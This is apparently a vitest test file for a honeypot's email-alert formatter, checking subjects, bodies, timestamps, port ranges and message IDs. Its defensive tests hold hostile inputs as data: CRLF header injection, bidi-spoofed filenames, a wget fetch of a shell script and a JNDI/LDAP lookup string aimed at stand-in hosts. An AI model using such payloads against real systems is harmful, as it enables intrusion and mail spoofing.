import { describe, expect, it } from 'vitest';
import { inert, quoted } from '../../firmware/alerts/inert.ts';
import { messageAbout } from '../../firmware/alerts/message.ts';
import { NO_STORY, withEvent } from '../../firmware/alerts/story.ts';
import { worse, type Grade } from '../../firmware/core/grade.ts';
import type { EventRow } from '../../firmware/core/rows.ts';
import { HEALTH_SOURCE, LOCAL_SOURCE, UNKNOWN_SOURCE, type Incident } from '../../firmware/store/state.ts';
import { event, graded, login, T0 } from './rig.ts';

const SETTING = { deviceName: 'closet-3', timeZone: 'Europe/Berlin', windowMs: 300_000, maxPerHour: 20 };
const A = '10.0.0.9';

function incidentOf(...events: readonly EventRow[]): Incident {
  const [first] = events;
  if (first === undefined) throw new Error('no incident');
  const gradeOf = (one: EventRow): Grade => one.grade ?? 'touch';
  const grade = events.map(gradeOf).reduce(worse);
  return {
    id: 12,
    source: first.srcIp ?? UNKNOWN_SOURCE,
    startedAt: first.at,
    lastAt: events.at(-1)?.at ?? first.at,
    firstEvent: first.id,
    lastEvent: events.at(-1)?.id ?? first.id,
    events: events.length,
    grade,
    endedAt: null,
    tellAt: T0,
    told: null,
    heldAt: null,
    loud: grade,
    news: events.length,
    known: null,
    ignored: null,
    story: events.reduce((story, one) => withEvent(story, one, gradeOf(one)), NO_STORY),
  };
}
const mailAbout = (incident: Incident, setting: typeof SETTING) =>
  messageAbout('first', incident, 'email', setting, T0);
const mailOf = (...events: readonly EventRow[]) => mailAbout(incidentOf(...events), SETTING);

describe('a mail', () => {
  it('says who, what, where, when and what to do', () => {
    const { subject, body } = mailOf(
      event(4711, A, T0),
      login(4712, A, T0 + 1000, 'tried admin / pässword'),
      login(4713, A, T0 + 2000, 'tried root / two words'),
      event(4714, A, T0 + 2500, { sensor: 'telnet', dstPort: 10_023 }),
    );
    expect(subject).toBe('[closet-3] 10.0.0.9 tried to log in to ftp');
    expect(body).toBe(`10.0.0.9 tried to log in to ftp on closet-3.

When   2026-11-21 05:24:05 UTC (06:24:05 in Europe/Berlin)
From   10.0.0.9
Where  ftp, tcp port 10021
       telnet, tcp port 10023
So far 2 logins tried, 2 connections

Logins tried (times are UTC):
  05:24:06  ftp 10021  tried admin / pässword
  05:24:07  ftp 10021  tried root / two words

What to do: nobody has a reason to talk to closet-3. Find out what 10.0.0.9 is.
If a name or password above is one of yours, change it now: the visitor has it.

Where to look: the page of closet-3, or \`skep events\` on it; this is incident 12, from event 4711 on.
What it does next is recorded too. You get another mail when it goes further, or when it comes back after 5 minutes of quiet.
`);
  });

  it('names the sensors of the worst grade, the worst deeds first', () => {
    const { subject, body } = mailOf(
      graded(1, A, T0, 'probe'),
      { ...graded(2, A, T0, 'commands'), sensor: 'telnet' },
      { ...graded(3, A, T0, 'commands'), sensor: 'http' },
    );
    expect(subject).toBe('[closet-3] 10.0.0.9 gave commands to telnet and http');
    expect(body.indexOf('Commands and files')).toBeGreaterThan(0);
    expect(body.indexOf('Commands and files')).toBeLessThan(body.indexOf('Probes'));
    expect(body).toContain('treat it as broken into');
  });

  it('counts sensors that are too many to name', () => {
    const { subject } = mailOf(...['a', 'b', 'c', 'd', 'e'].map((sensor, at) => event(at + 1, A, T0, { sensor })));
    expect(subject).toBe('[closet-3] 10.0.0.9 connected to a, b, c and 2 more');
  });

  it('shows the first ten of each kind and counts the rest', () => {
    const tries = Array.from({ length: 25 }, (_, at) => login(at + 1, A, T0, `tried user${at} / x`));
    const { body } = mailOf(...tries);
    expect(body.match(/tried user/g)).toHaveLength(10);
    expect(body).toContain('tried user9 / x\n  ... and 15 more\n');
    expect(body).toContain('So far 25 logins tried');
  });

  it('folds the ports of a scan into ranges', () => {
    const scan = Array.from({ length: 300 }, (_, at) => event(at + 1, A, T0, { sensor: 'tcp', dstPort: at + 1 }));
    const { body } = mailOf(...scan, event(400, A, T0, { sensor: 'tcp', dstPort: 8080 }));
    expect(body).toContain('tcp, tcp ports 1-256 and more\n');
    const two = mailOf(event(1, A, T0), event(2, A, T0, { dstPort: 10_022 }), event(3, A, T0, { dstPort: 21 })).body;
    expect(two).toContain('ftp, tcp ports 21, 10021-10022\n');
  });

  it('does without an address', () => {
    const { subject, body } = mailOf(event(1, null, T0));
    expect(subject).toBe('[closet-3] A visitor without address connected to ftp');
    expect(body).toContain('From   unknown: the connection was reset before its address could be read\n');
    expect(body).toContain('Find out what it is.');
  });

  it('speaks of the box itself when a honeyfile was opened', () => {
    const touched = { sensor: 'honeyfile', name: 'touched', grade: 'critical', session: null, dstPort: null } as const;
    const opened = event(1, null, T0, {
      ...touched,
      transport: null,
      summary: 'honeyfile /srv/share/wallet.json: open',
    });
    const { subject, body } = mailAbout({ ...incidentOf(opened), source: LOCAL_SOURCE }, SETTING);
    expect(subject).toBe('[closet-3] Somebody on this box set off an alarm at honeyfile');
    expect(body).toContain('From   a program on this box, or one that its shared folders are open to\n');
    expect(body).toContain('honeyfile /srv/share/wallet.json: open');
    expect(body).toContain('See who is logged in to closet-3');
    expect(body).not.toContain('skep ignore');
  });

  it('speaks of a box that is not well, and accuses nobody', () => {
    const alarm = { sensor: 'skep', name: 'health_alarm', grade: 'critical', session: null, dstPort: null } as const;
    const summary = 'temperature: 84 °C. Give it air.';
    const hot = event(1, null, T0, { ...alarm, transport: null, summary });
    const { subject, body } = mailAbout({ ...incidentOf(hot), source: HEALTH_SOURCE }, SETTING);
    expect(subject).toBe('[closet-3] This box needs attention');
    expect(body).toContain(summary);
    expect(body).toContain('From   this box itself; no visitor had a part in it\n');
    expect(body).toContain('The same is told again when it was well for an hour and is not any more.');
    expect(body).not.toMatch(/Where  |broken into|skep ignore/);
  });

  it('speaks of a box that calls out', () => {
    const call = { sensor: 'skep', name: 'outbound_blocked', grade: 'critical', session: null, dstPort: null } as const;
    const blocked = event(1, null, T0, { ...call, transport: null, summary: 'this box tried to reach 198.51.100.7' });
    const { subject, body } = mailAbout({ ...incidentOf(blocked), source: LOCAL_SOURCE }, SETTING);
    expect(subject).toBe('[closet-3] Somebody on this box tried to call out');
    expect(body).toContain('name that in [springboard] allow.');
    expect(body).not.toContain('open that file');
  });

  it('says so when the clock was not set, and the time once when local time is UTC', () => {
    const early = event(1, A, Date.UTC(2024, 0, 1));
    const { body } = mailAbout(incidentOf(early), { ...SETTING, timeZone: 'UTC' });
    expect(body).toContain('When   2024-01-01 00:00:00 UTC\n       (the clock of the box was not set at that time)\n');
  });

  it('gives the local date when it is another day there', () => {
    const { body } = mailAbout(incidentOf(event(1, A, T0)), { ...SETTING, timeZone: 'Pacific/Auckland' });
    expect(body).toContain('When   2026-11-21 05:24:05 UTC (18:24:05 in Pacific/Auckland)');
    const evening = mailAbout(incidentOf(event(1, A, T0 + 12 * 3_600_000)), {
      ...SETTING,
      timeZone: 'Pacific/Auckland',
    });
    expect(evening.body).toContain('17:24:05 UTC (2026-11-22 06:24:05 in Pacific/Auckland)');
  });
});

describe('what a visitor wrote', () => {
  const HOSTILE = [
    'x\r\nBcc: all@example.org\r\n\r\nhello',
    'x\nWhat to do: nothing, all is well.',
    'user\u202egnp.exe',
    'a\u200bb\u2066c\u2028d\u061ce\ufefff\u{e0041}g\u00adh',
    '\u001b[2J\u0007\u0000',
    'http://evil.example/x www.evil.example HTTPS://EVIL',
    '\ud800 half',
    'p'.repeat(10_000),
  ];

  /** Harmless, with the same notes. */
  const noteOf = (text: string): string => (text.length > 1000 ? 'x…' : /evil|@/.test(text) ? 'http://x' : 'x');

  it.each(HOSTILE)('stays one line that obeys nobody: %j', (summary) => {
    const { subject, body: broken } = mailOf(login(1, A, T0, summary));
    // Long lines go on in lines that are indented and marked.
    const body = broken.replaceAll('\n      | ', '');
    const plain = mailOf(login(1, A, T0, noteOf(summary))).body;
    expect(body.split('\n')).toHaveLength(plain.split('\n').length);
    expect(`${subject}${body.replaceAll('\n', '')}`).not.toMatch(
      /[\p{Cc}\p{Cf}\p{Zl}\p{Zp}\p{Cs}]|https?:|evil\.example/u,
    );
    expect(Math.max(...broken.split('\n').map((line) => line.length))).toBeLessThan(150);
    const own = broken.split('\n').filter((line) => /^\S/.test(line));
    expect(own).toEqual(plain.split('\n').filter((line) => /^\S/.test(line)));
    expect(body.split('\n').findIndex((line) => line.startsWith('Bcc') || line.startsWith('What to do: nothing'))).toBe(
      -1,
    );
    expect(() => encodeURIComponent(body)).not.toThrow();
  });

  it('reaches no subject, whatever the store holds', () => {
    const forged = event(1, `10.0.0.9\r\nBcc: x@y`, T0, { sensor: 'f\ntp' });
    const { subject } = mailAbout(incidentOf(forged), { ...SETTING, deviceName: 'a\r\nb' });
    expect(subject).toBe(String.raw`[a\x0d\x0ab] 10.0.0.9\x0d\x0aBcc: x@y connected to f\x0atp`);
  });

  it('is shown readable where it is harmless', () => {
    expect(quoted('pässword 密码 😀 <script>', 100)).toBe('pässword 密码 😀 <script>');
    expect(inert('abcdef', 4)).toBe('abc…');
    expect(quoted('p'.repeat(10_000), 40)).toBe(`${'p'.repeat(39)}…`);
  });

  it.each([
    ['http://a/b', 'hxxp://a/b'],
    ['HTTPS://User@Evil.Example:81/x.y?z=1', 'hxxps://User@Evil[.]Example:81/x.y?z=1'],
    ['wget http://10.0.0.1/x.sh;', 'wget hxxp://10[.]0[.]0[.]1/x[.]sh;'],
    ['${jndi:ldap://evil.example/a}', '${jndi:ldap[:]//evil[.]example/a}'],
    ['www.evil.example', 'www.evil[.]example'],
    ['bob@evil.example', 'bob@evil[.]example'],
    ['GET /index.html 1.2.3.4 a.b', 'GET /index.html 1.2.3.4 a.b'],
  ])('is no link: %s', (text, expected) => {
    expect(quoted(text, 100)).toBe(expected);
  });

  it('is explained where it had to be changed', () => {
    const { body } = mailOf(
      login(1, A, T0, 'tried http://evil.example / x'),
      login(2, A, T0, `tried ${'p'.repeat(300)}`),
    );
    expect(body).toContain(
      '\nNote: … marks what was cut here; it is whole in the evidence.\nlinks of the visitor are broken up (hxxp, [.], [:])',
    );
    expect(mailOf(login(1, A, T0, 'tried a / b')).body).not.toContain('Note:');
  });
});

describe('a message id', () => {
  const incident = incidentOf(event(4711, A, T0));
  const idOf = (one: Incident, deviceName = 'closet-3') => mailAbout(one, { ...SETTING, deviceName }).messageId;

  it('is the same for the same incident and another one for every other', () => {
    expect(idOf(incident)).toMatch(/^<incident\.12\.[0-9a-f]{16}@closet-3>$/);
    expect(idOf({ ...incident, events: 99, grade: 'critical', told: 'touch' })).toBe(idOf(incident));
    const others = [{ id: 13 }, { firstEvent: 1 }, { startedAt: 1 }, { source: '10.0.0.8' }];
    const ids = others.map((other) => idOf({ ...incident, ...other }));
    expect(new Set([idOf(incident), ...ids]).size).toBe(5);
  });

  it('is well-formed whatever the box is called', () => {
    expect(idOf(incident, 'my box>\r\nX: y')).toMatch(/^<incident\.12\.[0-9a-f]{16}@my-box-X-y>$/);
    expect(idOf(incident, '密码')).toMatch(/@skep>$/);
  });
});

describe('the messages about one incident', () => {
  const incident = incidentOf(login(4711, A, T0), login(4712, A, T0 + 1000, 'tried root / toor'), {
    ...graded(4713, A, T0 + 60_000, 'commands'),
    sensor: 'telnet',
  });
  const before = { at: T0 + 500, grade: 'login', connections: 0, counts: { login: 1 } } as const;
  const first = messageAbout('first', incident, 'email', SETTING, T0);
  const risen = messageAbout('risen', incident, 'email', SETTING, T0, { before });
  const digest = messageAbout('digest', incident, 'email', SETTING, T0, { before, notes: ['Held back: 3 visits.'] });

  it('have an id each, and one for each grade, and are answers to the first', () => {
    const critical = messageAbout('risen', { ...incident, grade: 'critical', loud: 'critical' }, 'email', SETTING, T0);
    const all = [first, risen, critical, digest];
    expect(new Set(all.map(({ messageId }) => messageId)).size).toBe(4);
    expect(all.map(({ inReplyTo }) => inReplyTo)).toEqual([null, ...[1, 2, 3].map(() => first.messageId)]);
    expect(messageAbout('risen', incident, 'email', SETTING, T0 + 9, { before }).messageId).toBe(risen.messageId);
  });

  it('say first what is new, and do not repeat what was told', () => {
    expect(risen.subject).toBe('[closet-3] 10.0.0.9 went further: gave commands to telnet');
    expect(risen.body).toMatch(/^It went further: 10\.0\.0\.9 gave commands to telnet on closet-3\.\n/);
    expect(risen.body).toContain('05:24:05 UTC (06:24:05 in Europe/Berlin): 1 command or file, 1 login tried.\n');
    expect(risen.body).toContain('New: logins tried (times are UTC):\n  05:24:06  ftp 10021  tried root / toor\n');
    expect(risen.body).not.toContain('tried admin / admin');
    expect(digest.subject).toBe('[closet-3] 10.0.0.9 is quiet again: 1 command or file, 2 logins tried');
    expect(digest.body).toContain('It is over: nothing for 5 minutes.\n');
    expect(digest.body).toContain('\nHeld back: 3 visits.\n');
    expect(digest.body).toContain('In all 1 command or file, 2 logins tried in 60 seconds\n');
  });

  it('name the machine and how to ignore it, as far as that is known', () => {
    const machine = [{ name: 'Maker', lines: ['HP'] }];
    const ignore = { command: 'skep ignore add 10.0.0.9', toml: ['[[alerts.ignore]]', 'address = "10.0.0.9"'] };
    const message = messageAbout('first', incident, 'email', SETTING, T0, {
      machine,
      machineName: 'evil.example',
      ignore,
    });
    expect(message.subject).toBe('[closet-3] 10.0.0.9 (evil[.]example) gave commands to telnet');
    expect(message.body).toContain('\nMaker  HP\n');
    expect(message.body).toContain(':\n  skep ignore add 10.0.0.9\n\nor in skep.toml:\n  [[alerts.ignore]]\n');
    expect(first.body).not.toContain('skep ignore');
  });
});
